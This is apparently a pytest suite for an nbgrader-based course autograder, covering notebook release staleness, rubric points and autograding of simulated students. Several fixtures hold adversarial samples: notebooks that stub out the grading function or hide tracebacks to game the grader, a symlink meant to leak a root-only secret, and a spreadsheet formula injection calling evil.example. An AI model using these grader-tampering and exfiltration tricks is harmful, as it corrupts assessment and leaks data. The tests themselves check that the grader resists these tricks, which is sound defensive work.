"""nbgrader for real: release staleness, autograde of two students, the gradebook."""

import json
import os
import re
import shutil
import subprocess
import sys

import nbformat
import pytest

import coursework
from autograder import points

from autograder.course.nbgrader_course import autograde
from autograder.course.nbgrader_grades import grade_outputs, named_check
from autograder.results import CheckResult, Status
from autograder.course.release import generate
from autograder.paths import ROOT
from tests.notebooks import RELEASED, cell, variant
from tests.routes import gradebook_scores, new_course


def notebooks(directory):
    return {p.relative_to(directory).as_posix(): json.loads(p.read_text()) for p in sorted(directory.rglob("*.ipynb"))}


def test_released_and_reference_notebooks_are_current(tmp_path):
    """Fails when assignments/, .released/ or reference_solutions/ is stale against source/: run `make release`."""
    generate(out=tmp_path)
    for folder in ("assignments", ".released", "reference_solutions"):
        assert notebooks(tmp_path / folder) == notebooks(ROOT / folder), f"{folder}/ is stale: run `make release`"


def test_released_notebooks_hide_solutions():
    for path in (ROOT / "assignments").rglob("*.ipynb"):
        text = path.read_text()
        assert "BEGIN SOLUTION" not in text and "HIDDEN TESTS" not in text, path
        assert "YOUR CODE HERE" in text, path


def test_grade_cells_match_the_rubric():
    """Every graded rubric check has a grade cell worth the same points, and no grade cell is orphaned."""
    from autograder import rubric as rubrics

    for rubric in rubrics.all_rubrics().values():
        source = nbformat.read(ROOT / "source" / rubric.name / rubric.notebook, as_version=4)
        cells = {}
        for c in source.cells:
            meta = c.get("metadata", {}).get("nbgrader", {})
            if meta.get("grade") and not meta.get("solution"):
                assignment, check_id = named_check(c.source)  # as nbgrader's autograde maps cells to checks
                assert assignment == rubric.id, c.source
                cells[check_id] = float(meta["points"])
                said = re.search(r"# Autograder: .*\((\d+) points?\)", c.source)
                assert said and said.group(0).endswith(f"({points.counted(float(meta['points']))})"), c.source
        graded = {s.id: s.points for s in rubric.checks if s.points > 0}
        assert cells == graded, rubric.name


@pytest.mark.parametrize("points", [0.0, 4 / 3, 2.0])
def test_grade_cell_outputs_give_nbgrader_the_pipelines_points(points):
    """nbgrader's own determine_grade reads a grade cell's outputs as exactly the check's points."""
    from nbgrader.utils import determine_grade

    meta = {"grade": True, "solution": False, "locked": True, "points": 2, "grade_id": "test_x", "schema_version": 3}
    grade_cell = nbformat.v4.new_code_cell('coursework.grade_cell("03", "x", OUTPUT_DIR, PROFILE)',
                                           metadata={"nbgrader": meta})
    status = Status.PASS if points == 2 else Status.FAIL
    grade_cell.outputs = grade_outputs(CheckResult("03", "x", "a check", points, 2.0, status, "why"), 2.0)
    assert determine_grade(grade_cell) == (pytest.approx(points), 2.0)
    assert f"[{status}] why" in grade_cell.outputs[0].text


def test_named_check_reads_the_call_not_comments():
    assert named_check('# grade_cell("00", "fake")\ncoursework.grade_cell("00", "accuracy", OUTPUT_DIR)') == (
        "00", "accuracy")
    assert named_check("assert True") is None and named_check("not python (") is None


@pytest.fixture(scope="module")
def warmup_class(tmp_path_factory):
    """One nbgrader course of 00_warmup, autograded once: an honest student, a wrong hand count, a stubbed
    grade_cell, and hidden tracebacks."""
    course = new_course(tmp_path_factory.mktemp("warmup"), "00_warmup")

    def wrong(nb):
        cell(nb, "answers").source = "PARAMS_BY_HAND = 7"

    def stub(nb):  # solves nothing and stubs out coursework.grade_cell
        cell(nb, "answers").source = "coursework.grade_cell = lambda *a, **k: None"

    def hide(nb):  # patches IPython's showtraceback to hide a failing check
        cell(nb, "answers").source = (
            "import IPython\n"
            "IPython.core.interactiveshell.InteractiveShell.showtraceback = lambda *a, **k: None\n"
            "PARAMS_BY_HAND = 7"
        )

    variant(course / "submitted" / "alice", "00_warmup")
    variant(course / "submitted" / "bob", "00_warmup", wrong)
    variant(course / "submitted" / "mallory", "00_warmup", stub, base=RELEASED)
    variant(course / "submitted" / "trudy", "00_warmup", hide)
    return course, autograde(course, ["00_warmup"], profile="smoke")


@pytest.mark.notebooks
def test_nbgrader_autograde_two_students(warmup_class):
    """The honest reference gets full marks; a wrong hand count loses that cell's point only."""
    course, csv_path = warmup_class
    alice, _ = gradebook_scores(course, "00_warmup", "alice")
    bob, grades = gradebook_scores(course, "00_warmup", "bob")
    assert alice == 4
    assert bob == 3
    assert grades["test_params_by_hand"] == 0 and grades["test_accuracy"] == 2
    assert "alice" in csv_path.read_text() and "bob" in csv_path.read_text()
    feedback = nbformat.read(course / "autograded" / "bob" / "00_warmup" / "00_warmup.ipynb", as_version=4)
    printed = "".join(o.get("text", "") for o in cell(feedback, "test_params_by_hand").outputs)
    assert "[fail]" in printed and "7" in printed  # the check's message, for the student's feedback


@pytest.mark.notebooks
def test_the_nbgrader_route_writes_batchs_tables_with_errors_by_name(warmup_class):
    """The course's grading/ gets batch's gradebook.csv and class report: mallory's notebook (nothing solved)
    errored, and says so by name."""
    import csv

    course, _ = warmup_class
    rows = {r["student"]: r for r in csv.DictReader((course / "grading" / "gradebook.csv").open())}
    assert {s: r["00_warmup"] for s, r in rows.items()} == {"alice": "4", "bob": "3", "mallory": "0", "trudy": "3"}
    assert rows["mallory"]["errors"] == "00_warmup"
    assert not any(rows["alice"][c] for c in ("late", "tampered", "workflow", "errors"))
    broken = (course / "grading" / "class_report.md").read_text().split("## Notebooks that errored")[1]
    assert "mallory" in broken and "alice" not in broken


@pytest.mark.notebooks
def test_replacing_grade_cell_in_the_kernel_earns_nothing(warmup_class):
    """A student who solves nothing and stubs out coursework.grade_cell gets no point."""
    total, grades = gradebook_scores(warmup_class[0], "00_warmup", "mallory")
    assert total == 0, grades


@pytest.mark.notebooks
def test_hiding_tracebacks_earns_nothing(warmup_class):
    """Patching IPython's showtraceback to hide a failing check gains nothing over the honest wrong answer."""
    total, grades = gradebook_scores(warmup_class[0], "00_warmup", "trudy")
    assert grades["test_params_by_hand"] == 0 and total == 3, grades


@pytest.mark.notebooks
def test_partial_credit_is_the_pipelines(tmp_path, data_dir):
    """A partly right hand count: nbgrader's gradebook holds the same points as `python -m autograder grade`."""
    course = new_course(tmp_path, "03_lenet5")

    def two_wrong(nb):
        cell(nb, "answers").source = (
            'PARAMS = {"conv1": (5 * 5 * 1 + 1) * 5, "conv2": (5 * 5 * 6 + 1) * 16, "fc1": (5 * 5 * 16 + 1) * 120,'
            ' "fc2": (120 + 1) * 84, "fc3": (84 + 1) * 10, "total": 61000}'
        )

    variant(course / "submitted" / "carol", "03_lenet5", two_wrong)
    autograde(course, ["03_lenet5"], profile="smoke")
    total, grades = gradebook_scores(course, "03_lenet5", "carol")

    out = tmp_path / "grading"
    env = {**os.environ, "CNN_COURSE_DATA": str(data_dir)}
    subprocess.run([sys.executable, "-m", "autograder", "grade", str(course / "submitted" / "carol"),
                    "--assignment", "03", "--profile", "smoke", "--out", str(out)], check=True, env=env,
                   capture_output=True)
    results = json.loads((out / "results.json").read_text())
    points = {r["id"]: r["points"] for r in results["results"]}

    assert 0 < points["params_by_hand"] < 2  # the case this test is about: partial credit
    assert grades == pytest.approx({f"test_{k}": v for k, v in points.items() if f"test_{k}" in grades})
    assert total == pytest.approx(results["totals"]["points"])


def test_grade_cells_find_the_notebook_for_sandboxed_checks(tmp_path, monkeypatch, capsys):
    """nbgrader runs a notebook from its folder; a grade cell's sandboxed check reads the notebook there."""
    shutil.copy(ROOT / "reference_solutions" / "01_data_generators" / "01_data_generators.ipynb", tmp_path)
    monkeypatch.chdir(tmp_path)
    coursework.grade_cell("01", "generator", tmp_path / "artifacts", "smoke")  # raises AssertionError on failure
    assert capsys.readouterr().out.startswith("[pass] ")


SECRET = "root-only-secret-of-the-nbgrader-route"
FORMULA = '=HYPERLINK("evil.example?"&A1,"open")'  # no slash: a folder name


@pytest.mark.notebooks
def test_nbgrader_follows_no_symlink_and_always_exports(tmp_path):
    """A symlink to a root-only file is neither read nor copied; a dangling one stops nobody; a student whose
    folder cannot be staged is in grades.csv with the reason; no cell of it starts a formula."""
    import csv

    course = new_course(tmp_path, "00_warmup")
    secret = tmp_path / "secret"
    secret.write_text(SECRET)
    secret.chmod(0o600)

    def reads_leak(nb):
        cell(nb, "answers").source += "\nimport os\nprint('LEAK', open('leak.txt').read() if os.path.exists('leak.txt') else None)"

    alice = variant(course / "submitted" / "alice", "00_warmup", reads_leak) / "00_warmup"
    (alice / "leak.txt").symlink_to(secret)
    (alice / "dangling.txt").symlink_to(tmp_path / "nowhere")
    (course / "submitted" / FORMULA).mkdir()
    (course / "submitted" / FORMULA / "00_warmup").symlink_to(alice)  # the copy fails: not a regular folder

    csv_path = autograde(course, ["00_warmup"], profile="smoke")

    rows = {r["student_id"]: r for r in csv.DictReader(open(csv_path, newline=""))}
    assert set(rows) == {"alice", "'" + FORMULA}
    assert float(rows["alice"]["score"]) == 4 and rows["alice"]["autograder_error"] == ""
    assert float(rows["'" + FORMULA]["score"]) == 0
    assert "00_warmup is not a regular folder; it is not graded" in rows["'" + FORMULA]["autograder_error"]
    autograded = course / "autograded"
    assert not any(p.name in ("leak.txt", "dangling.txt") for p in autograded.rglob("*"))
    assert not [p for p in autograded.rglob("*") if p.is_file() and SECRET.encode() in p.read_bytes()]
    feedback = nbformat.read(autograded / "alice" / "00_warmup" / "00_warmup.ipynb", as_version=4)
    assert "LEAK None" in "".join(o.get("text", "") for o in cell(feedback, "answers").outputs)
    assert not (course / ".autograde-submitted").exists()
    assert (alice / "leak.txt").is_symlink()  # the student's own files are untouched
